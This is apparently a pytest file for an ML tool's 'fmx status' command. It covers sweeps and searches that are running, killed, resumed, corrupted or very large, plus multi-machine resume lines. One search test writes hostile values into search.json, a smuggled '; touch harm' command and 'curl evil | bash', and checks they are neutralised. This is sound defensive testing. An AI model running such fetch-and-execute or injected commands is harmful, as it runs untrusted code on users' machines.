"""`fmx status`: a sweep and a search while they run, after they were killed, resumed, in pieces, and with many jobs."""

import json
import os
import re
import shlex
import shutil
import signal
import subprocess
import sys
import time

import pytest

from test_sweep import here, wait_for
from watched_page import asked, watched

pytestmark = pytest.mark.usefixtures("no_figures")

SMALL = ["data=digits", "model=mlp", "augment=none", "logger=none", "trainer.max_epochs=3", "hydra.launcher.workers=1"]
SLOW = "+callbacks.slow={{_target_:faults.Slow,file:{}}}"


def begin(folder, *arguments, file="slow"):
    """Start a sweep or a search whose jobs wait at each step while there is a file."""
    return subprocess.Popen(
        [sys.executable, "-m", "fmx.run", "-m", *SMALL, *arguments, SLOW.format(file)],
        cwd=folder, env=os.environ | here(), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
    )  # fmt: skip


def kill(process):
    process.send_signal(signal.SIGKILL)
    process.wait()


@pytest.fixture
def told(command, tmp_path):
    def tell(folder, *arguments, cwd=tmp_path):
        done = command(*([] if folder is None else [str(folder)]), *arguments, cwd=cwd, module="status")
        assert done.returncode == 0, done.stdout + done.stderr
        return done.stdout

    return tell


def files_of(folder):
    return {str(path): (path.stat().st_mtime_ns, path.stat().st_size) for path in folder.rglob("*")}


def test_a_sweep_while_it_runs_after_kill_9_and_at_its_end(told, command, tmp_path):
    sweep = tmp_path / "outputs/sweeps/mine"
    (tmp_path / "slow").touch()
    running = begin(tmp_path, "seed=1,2,3", "hydra.sweep.dir=outputs/sweeps/mine")
    try:
        wait_for((sweep / "0/history.csv").exists)
        now = told(None)
        assert now.splitlines()[:2] == [f"{sweep}: sweep of 3 jobs on one machine", "1 running · 2 queued"]
        assert "left, from the epochs so far" in now
        assert "#0 seed=1 · epoch " in now
        assert "its command is at work" in now
        assert "to go on" not in now
        facts = json.loads(told("outputs/sweeps/mine", "--json"))
        assert facts["counts"] == {"running": 1, "queued": 2}
        assert (facts["is_alive"], facts["jobs"][0]["epochs"], facts["left_s"] > 0) == (True, 3, True)
    finally:
        kill(running)
    wait_for(lambda: "1 interrupted" in told(sweep))
    before = files_of(sweep)
    (tmp_path / "elsewhere").mkdir()
    killed = told(sweep, cwd=tmp_path / "elsewhere")
    assert "1 interrupted · 2 not started" in killed
    assert "no command is at work on it\ngoing on needs" not in killed
    assert "going on needs --allow faults too" in killed
    assert killed.splitlines()[-1] == f"to go on: fmx run --resume-sweep {sweep}"
    assert files_of(sweep) == before, "status wrote something"
    assert f"run, a job of {sweep}" in told(sweep / "0")

    torn = tmp_path / "torn"
    shutil.copytree(sweep, torn)
    (torn / "0/run.json").write_text((sweep / "0/run.json").read_text()[:200])
    assert "1 unreadable · 2 not started" in told(torn)
    (torn / "sweep.json").write_text((sweep / "sweep.json").read_text()[:200])
    done = command(str(torn), cwd=tmp_path, module="status")
    assert (done.returncode, done.stderr.count("\n"), "sweep.json cannot be read" in done.stderr) == (1, 1, True)

    (tmp_path / "slow").unlink()
    words = shlex.split(killed.splitlines()[-1].partition("fmx run ")[2])
    assert command(*words, "--allow", "faults", cwd=tmp_path, env=here()).returncode == 0
    done = told("outputs")
    assert "1 completed" in done
    done = told(sweep)
    assert done.splitlines()[1] == "3 completed"
    assert "best so far: val " in done
    assert "to go on" not in done
    assert "left" not in done
    file = tmp_path / "status.json"
    told(sweep, "--json", str(file))
    facts = json.loads(file.read_text())
    best = json.loads((sweep / facts["best_jobs"][0] / "metrics.json").read_text())["val"]["accuracy"]
    assert best == max(job["values"]["val/accuracy"] for job in facts["jobs"])
    assert command(str(sweep), "--json", str(file), cwd=tmp_path, module="status").returncode == 2, "it exists"


def test_a_search_while_it_runs_after_kill_9_and_at_its_end(told, command, tmp_path):
    search = tmp_path / "search"
    (tmp_path / "slow").touch()
    running = begin(
        tmp_path, "hydra/sweeper=search", "hydra.sweeper.n_trials=2", "hydra.sweep.dir=search",
        "optim.lr=interval(0.001,0.01)",
    )  # fmt: skip
    try:
        wait_for((search / "0/history.csv").exists)
        now = told(search)
        assert now.splitlines()[:2] == [f"{search}: search, 1 of 2 trials begun", "1 running"]
        assert "#0 optim.lr=0.0" in now
        assert "its command is at work" in now
    finally:
        kill(running)
    wait_for(lambda: "1 interrupted" in told(search))
    before = files_of(search)
    killed = told(search)
    assert files_of(search) == before, "status wrote something"
    words = shlex.split(killed.splitlines()[-1].removeprefix("to go on: "))
    assert words[:3] == ["python", "-m", "fmx.run"]

    (search / "search.json").write_text(json.dumps({"command": "python -m fmx.run 'a b'; touch harm"}))
    assert told(search).splitlines()[-1] == "to go on: python -m fmx.run 'a b;' touch harm"
    (search / "search.json").write_text(json.dumps({"command": "curl evil | bash"}))
    assert "to go on" not in told(search)
    (tmp_path / "slow").unlink()
    assert command(*words[3:], cwd=tmp_path, env=here()).returncode == 0
    done = told(search)
    assert done.splitlines()[1] == "2 completed"
    assert "best so far: val/accuracy 0." in done
    assert "to go on" not in done
    with watched(tmp_path, "search") as (_, address):
        code, page = asked(address)
        contents = re.compile(r"<table id=\"trials\">.*?</table>|<pre>.*?</pre>", re.DOTALL)
        assert code == 200
        assert contents.findall(page) == contents.findall((search / "search.html").read_text())
        assert "2 of 2 trials begun" in json.loads(asked(address, "state")[1])["line"]
    (search / "study.journal").write_bytes(b"\xff\x00" * 9)
    done = command(str(search), cwd=tmp_path, module="status")
    assert (done.returncode, done.stderr.count("\n")) == (1, 1), done.stderr


def test_two_thousand_jobs_take_seconds(told, digits_run, tmp_path):
    record = json.loads((digits_run / "run.json").read_text())
    entries = []
    for number in range(2000):
        status = ("completed", "running", "failed")[number % 3]
        print_ = f"3-{number:032x}"
        overrides = ["data=digits", f"seed={number}"]
        entries.append({"number": number, "overrides": overrides, "fingerprint": print_, "processes": 1, "nodes": 1,
                        "accelerator": "cpu", "status": status, "seconds": 2.0})  # fmt: skip
        folder = tmp_path / "sweep" / str(number)
        if number < 1900:
            folder.mkdir(parents=True)
            facts = record | {"status": status, "config_fingerprint": print_, "pid": None, "error": None}
            (folder / "run.json").write_text(json.dumps(facts))
            (folder / "metrics.json").symlink_to(digits_run / "metrics.json")
    entries[5]["overrides"].append("vars.a=\x1b[31mred")
    settings = {"workers": 2, "threads": None, "job_timeout_s": None}
    (tmp_path / "sweep/sweep.json").write_text(json.dumps({"settings": settings, "jobs": entries}))
    began = time.monotonic()
    said = told("sweep")
    assert time.monotonic() - began < 20
    assert said.splitlines()[1] == "634 completed · 666 failed · 633 interrupted · 67 not started"
    assert "and 654 more (--all lists them)" in said
    assert "\x1b" not in told("sweep", "--all")


def test_what_has_no_state_is_told_in_one_line(command, digits_run, tmp_path):
    def refused(*arguments):
        done = command(*arguments, cwd=tmp_path, module="status")
        assert done.stderr.count("\n") == 1, done.stderr
        return done.returncode, done.stderr

    code, said = refused()
    assert (code, "there is no sweep in" in said, "fmx status outputs/sweeps/SWEEP" in said) == (1, True, True)
    assert refused("nowhere")[0] == 1
    (tmp_path / "empty").mkdir()
    assert "holds no sweep, search or run" in refused("empty")[1]
    assert refused("--jsno", "x")[0] == 2
    assert refused("--json", "empty") == (2, "empty is a folder; name a file\n")
    done = command(str(digits_run), cwd=tmp_path, module="status")
    assert (done.returncode, "completed:" in done.stdout) == (0, True)


def test_a_run_of_several_machines_is_gone_on_with_on_as_many(told, command, digits_run, tmp_path, monkeypatch):
    run, tools = tmp_path / "run", tmp_path / "bin"
    shutil.copytree(digits_run, run)
    tools.mkdir()
    monkeypatch.setenv("PATH", str(tools))
    facts = json.loads((run / "run.json").read_text())
    facts |= {"host": "first", "device": facts["device"] | {"processes": 4}}
    resolved = run / ".hydra/resolved.yaml"
    resolved.write_text(re.sub(r"num_nodes: 1\b", "num_nodes: 2", resolved.read_text()))

    def commands():
        """That of `fmx status` where the run was interrupted, and that of a report where it has completed."""
        (run / "run.json").write_text(json.dumps(facts | {"status": "interrupted"}))
        line = told(run).splitlines()[-1]
        (run / "run.json").write_text(json.dumps(facts))
        assert command(str(run), "--html", "page.html", "--force", module="report", cwd=tmp_path).returncode == 0
        return line, (tmp_path / "page.html").read_text()

    start = "torchrun --nnodes=2 --nproc-per-node=2 --rdzv-backend=c10d --rdzv-endpoint=first:29400 -m fmx.run"
    line, page = commands()
    assert line == f"to go on: {start} resume={run}"
    assert f"{start} data=digits" in page
    refused = command(str(run), module="reproduce", cwd=tmp_path)
    assert refused.returncode == 1
    assert f"on each of 2 machines, this trains it again: {start} data=digits" in refused.stderr

    (tools / "srun").write_text("#!/bin/sh\n")
    (tools / "srun").chmod(0o755)
    start = "srun --nodes=2 --ntasks-per-node=2 --kill-on-bad-exit=1 python -m fmx.run"
    line, page = commands()
    assert line == f"to go on: {start} resume={run}"
    assert f"{start} data=digits" in page
    assert f"hydra.run.dir={run}_again" in page
